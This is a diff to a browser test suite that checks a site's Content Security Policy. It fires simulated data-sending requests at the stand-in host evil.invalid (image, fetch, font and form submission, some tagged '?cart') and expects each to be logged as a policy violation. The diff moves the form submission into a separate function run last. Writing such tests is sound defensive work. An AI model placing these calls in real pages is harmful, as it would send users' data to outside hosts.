@@ -25,11 +25,12 @@ const ATTACKS: Readonly<Record<string, () => unknown>> = {
   'img-src': () => document.body.append(Object.assign(new Image(), { src: 'https://evil.invalid/?cart' })),
   'connect-src': () => fetch('https://evil.invalid/?cart').catch(() => undefined),
   'font-src': () => new FontFace('evil', 'url(https://evil.invalid/x.woff2)').load().catch(() => undefined),
-  'form-action': () => {
-    const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/?cart' })
-    document.body.append(form)
-    form.submit()
-  },
+}
+
+function sendForm(): void {
+  const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/' })
+  document.body.append(form)
+  form.submit()
 }
 
 // The second is 404.html; the third is, too, below a folder whose header allows nothing at all.
@@ -51,6 +52,11 @@ for (const path of ['/kontakt', '/neexistuje', '/_astro/neexistuje.js'])
         .toContainEqual(expect.stringContaining(`securitypolicyviolation of ${how}`))
     await expect(page).toHaveTitle(/^(?!taken|1$)/)
     await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
+    // Comes last: the browser holds the page for one that is being left.
+    await page.evaluate(sendForm)
+    await expect
+      .poll(() => policyViolations)
+      .toContainEqual(expect.stringContaining('securitypolicyviolation of form-action '))
     policyViolations.length = 0
   })
 
